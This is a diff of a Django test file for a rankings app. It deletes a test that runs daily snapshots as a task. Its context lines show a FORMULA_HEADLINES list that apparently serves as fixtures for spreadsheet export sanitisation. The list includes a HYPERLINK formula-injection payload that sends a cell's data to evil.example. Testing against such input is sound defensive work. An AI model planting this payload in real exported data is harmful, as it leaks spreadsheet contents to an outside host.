@@ -178,14 +178,6 @@ def test_snapshots_keep_past_top_tens(analyst_client, history):
     assert "Newcomer" in response.content.decode()
 
 
-def test_the_snapshot_is_also_a_django_task(history):
-    from rankings.tasks import take_daily_snapshots
-
-    today = timezone.localdate()
-    result = take_daily_snapshots.enqueue(today.isoformat())
-    assert result.return_value == RankingSnapshot.objects.filter(day=today).count() > 0
-
-
 FORMULA_HEADLINES = [
     '=HYPERLINK("https://evil.example/?"&A1,"東京")',
     "+81 東京 reader numbers",
